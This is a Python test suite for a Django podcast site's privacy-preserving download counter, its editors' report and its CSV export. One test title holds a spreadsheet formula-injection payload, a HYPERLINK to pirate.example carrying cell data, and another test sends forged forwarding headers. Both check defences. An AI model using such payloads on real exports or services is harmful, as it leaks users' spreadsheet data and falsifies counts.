"""The counting redirect: audio always plays, downloads count by IAB rules, no IP is kept."""

import csv
import datetime
import logging

import pytest
import time_machine
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format

from core import roles
from podcast.models import DailyDownloads, DownloadHit, DownloadSalt

LISTENER = {"REMOTE_ADDR": "203.0.113.7", "HTTP_USER_AGENT": "AntennaPod/3.4"}


@pytest.fixture
def episode(make_episode):
    return make_episode(title="Trésorerie")


def audio_path(episode):
    return f"/cash-pme/{episode.guid}/audio.mp3"


def counted(episode):
    return sum(DailyDownloads.objects.filter(episode=episode).values_list("downloads", flat=True))


def test_redirects_to_the_file_which_answers_range_and_head(client, episode, audio):
    response = client.get(audio_path(episode), **LISTENER)
    assert response.status_code == 302
    assert response["Location"] == f"http://testserver{audio.url}"
    assert response["Cache-Control"] == "no-store"

    target = response["Location"].removeprefix("http://testserver")
    partial = client.get(target, HTTP_RANGE="bytes=100-199")
    assert partial.status_code == 206
    assert partial["Content-Range"] == f"bytes 100-199/{audio.size_bytes}"
    assert len(b"".join(partial.streaming_content)) == 100

    head = client.head(audio_path(episode), **LISTENER)
    assert head.status_code == 302
    assert client.head(target)["Content-Length"] == str(audio.size_bytes)


def test_probes_and_head_are_not_downloads(client, episode):
    client.head(audio_path(episode), **LISTENER)
    client.get(audio_path(episode), HTTP_RANGE="bytes=0-1", **LISTENER)
    assert counted(episode) == 0
    client.get(audio_path(episode), HTTP_RANGE="bytes=0-", **LISTENER)
    assert counted(episode) == 1


def test_a_listener_counts_once_per_episode_per_24_hours(client, episode, make_episode):
    start = timezone.make_aware(datetime.datetime(2026, 11, 2, 22, 0))
    with time_machine.travel(start, tick=False):
        for range_header in ("bytes=0-", "bytes=5000-", ""):
            client.get(audio_path(episode), HTTP_RANGE=range_header, **LISTENER)
        assert counted(episode) == 1
        other_episode = make_episode(title="Autre épisode")
        client.get(audio_path(other_episode), **LISTENER)
        assert counted(other_episode) == 1
        client.get(audio_path(episode), REMOTE_ADDR="198.51.100.1", HTTP_USER_AGENT="Overcast")
        assert counted(episode) == 2

    with time_machine.travel(start + datetime.timedelta(hours=12), tick=False):  # next day
        client.get(audio_path(episode), **LISTENER)
        assert counted(episode) == 2
    with time_machine.travel(start + datetime.timedelta(hours=25), tick=False):
        client.get(audio_path(episode), **LISTENER)
        assert counted(episode) == 3


def test_no_ip_or_user_agent_is_stored_and_old_salts_are_dropped(client, episode):
    start = timezone.make_aware(datetime.datetime(2026, 11, 2, 10, 0))
    for day in range(4):
        with time_machine.travel(start + datetime.timedelta(days=day), tick=False):
            client.get(audio_path(episode), **LISTENER)
    stored = " ".join(
        f"{hit.listener} {hit.created_at}" for hit in DownloadHit.objects.all()
    ) + " ".join(DownloadSalt.objects.values_list("value", flat=True))
    assert "203.0.113.7" not in stored
    assert "AntennaPod" not in stored
    assert len({hit.listener for hit in DownloadHit.objects.all()}) == 4
    assert sorted(str(day) for day in DownloadSalt.objects.values_list("day", flat=True)) == [
        "2026-11-04",
        "2026-11-05",
    ]


def test_listeners_behind_the_proxy_are_told_apart(client, episode, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    for address in ("192.0.2.1", "192.0.2.2", "192.0.2.2"):
        client.get(
            audio_path(episode),
            REMOTE_ADDR="10.0.0.1",
            HTTP_X_FORWARDED_FOR=f"1.2.3.4, {address}",
            HTTP_USER_AGENT="Podcasts/1.0",
        )
    assert counted(episode) == 2


def test_forged_forwarded_headers_do_not_inflate_counts(client, episode, settings):
    """Around the proxy (a public socket address), or with an entry that is not an address,
    the header is not believed: one listener, one download."""
    settings.TRUSTED_PROXY_COUNT = 1
    for number in range(3):
        client.get(
            audio_path(episode),
            REMOTE_ADDR="93.184.216.34",
            HTTP_X_FORWARDED_FOR=f"192.0.2.{number}",
            HTTP_USER_AGENT="Podcasts/1.0",
        )
    for forged in ("nope", "1.2.3.4, 192.0.2.999"):
        client.get(
            audio_path(episode),
            REMOTE_ADDR="10.0.0.1",
            HTTP_X_FORWARDED_FOR=forged,
            HTTP_USER_AGENT="Podcasts/1.0",
        )
    assert counted(episode) == 2  # 93.184.216.34 once, the proxy's own address once


def test_a_counting_failure_still_redirects(client, episode, caplog):
    with connection.cursor() as cursor:  # the table is gone: every write to it fails
        cursor.execute("ALTER TABLE podcast_downloadhit RENAME TO podcast_downloadhit_away")
    with caplog.at_level(logging.ERROR, logger="podcast.downloads"):
        response = client.get(audio_path(episode), **LISTENER)
    assert response.status_code == 302
    assert "not counted" in caplog.text
    assert counted(episode) == 0
    # The request's transaction is still usable after the failure.
    assert client.get("/cash-pme/feed.xml").status_code == 200


def test_the_player_and_download_link_go_through_the_counter(client, episode):
    html = client.get(episode.url).content.decode()
    assert f'src="{audio_path(episode)}"' in html
    assert f'href="{audio_path(episode)}" download' in html
    assert 'preload="none"' in html


@pytest.fixture
def editor_client(client, django_user_model):
    user = django_user_model.objects.create_user("redacteur", password="x")
    user.groups.add(Group.objects.get(name=roles.EDITORS))
    client.force_login(user)
    return client


def test_editors_see_downloads_per_episode(editor_client, episode, make_episode):
    quiet = make_episode(title="Épisode discret")
    today = timezone.localdate()
    for days_ago, downloads in [(0, 3), (6, 2), (20, 10), (100, 50)]:
        DailyDownloads.objects.create(
            episode=episode, day=today - datetime.timedelta(days=days_ago), downloads=downloads
        )
    response = editor_client.get(reverse("podcast_downloads_report"))
    assert response.status_code == 200
    rows = {row.title: row for row in response.context["object_list"]}
    assert (rows["Trésorerie"].downloads_7, rows["Trésorerie"].downloads_30) == (5, 15)
    assert rows["Trésorerie"].downloads_total == 65
    assert rows[quiet.title].downloads_total == 0
    html = response.content.decode()
    assert "7 derniers jours" in html
    assert "Trésorerie" in html

    export = editor_client.get(reverse("podcast_downloads_report") + "?export=csv")
    assert "Trésorerie" in b"".join(export.streaming_content).decode()


def test_the_downloads_csv_guards_formulas_like_every_csv_of_the_site(editor_client, make_episode):
    make_episode(title='=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")')
    make_episode(title="-1 000 euros de charges")
    export = editor_client.get(reverse("podcast_downloads_report") + "?export=csv")
    rows = list(csv.reader(b"".join(export.streaming_content).decode().splitlines()))
    titles = {row[0] for row in rows[1:]}
    assert '\'=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")' in titles
    assert "'-1 000 euros de charges" in titles
    assert set(rows[1][2:]) == {"0"}  # numbers stay numbers


def test_purge_keeps_daily_totals(client, episode):
    old = timezone.now() - datetime.timedelta(days=400)
    with time_machine.travel(old, tick=False):
        client.get(audio_path(episode), **LISTENER)
    client.get(audio_path(episode), **LISTENER)
    assert DownloadHit.objects.count() == 2

    call_command("purge_download_hits")
    assert DownloadHit.objects.count() == 1
    assert counted(episode) == 2

    with pytest.raises(CommandError, match="au moins un jour"):
        call_command("purge_download_hits", days=0)


def test_the_report_draws_daily_downloads_with_their_table(editor_client, episode, make_episode):
    other = make_episode(title="Autre épisode")
    today = timezone.localdate()
    episode.first_published_at = timezone.now() - datetime.timedelta(days=40)
    episode.save(update_fields=["first_published_at"])
    published = timezone.localtime(episode.first_published_at).date()
    for day, downloads in [(published, 4), (published + datetime.timedelta(days=6), 2)]:
        DailyDownloads.objects.create(episode=episode, day=day, downloads=downloads)
    DailyDownloads.objects.create(  # day 8 counts in the first 30 days, not the first 7
        episode=episode, day=published + datetime.timedelta(days=8), downloads=5
    )
    DailyDownloads.objects.create(episode=episode, day=today, downloads=7)
    DailyDownloads.objects.create(episode=other, day=today, downloads=3)

    response = editor_client.get(reverse("podcast_downloads_report"))
    rows = {row.title: row for row in response.context["object_list"]}
    assert rows["Trésorerie"].downloads_first_7 == 6
    assert rows["Trésorerie"].downloads_first_30 == 11
    html = response.content.decode()
    assert '<svg role="img" aria-labelledby="downloads-chart-svg-title' in html
    assert "10 téléchargements en 30 jours, au plus 10 par jour." in html
    assert f"<td>{date_format(today, 'l j F Y')}</td><td>10</td>" in html
    assert "toute l'émission" in html

    one = editor_client.get(reverse("podcast_downloads_report"), {"courbe": other.pk})
    assert "3 téléchargements en 30 jours" in one.content.decode()
    assert "« Autre épisode »" in one.content.decode()

    for bad in ("abc", "999999"):
        response = editor_client.get(reverse("podcast_downloads_report"), {"courbe": bad})
        assert response.status_code == 200
        html = response.content.decode()
        assert "Cet épisode n&#x27;existe pas" in html
        assert "10 téléchargements en 30 jours" in html

    export = editor_client.get(reverse("podcast_downloads_report") + "?export=csv")
    assert "30 premiers jours après publication" in b"".join(export.streaming_content).decode()
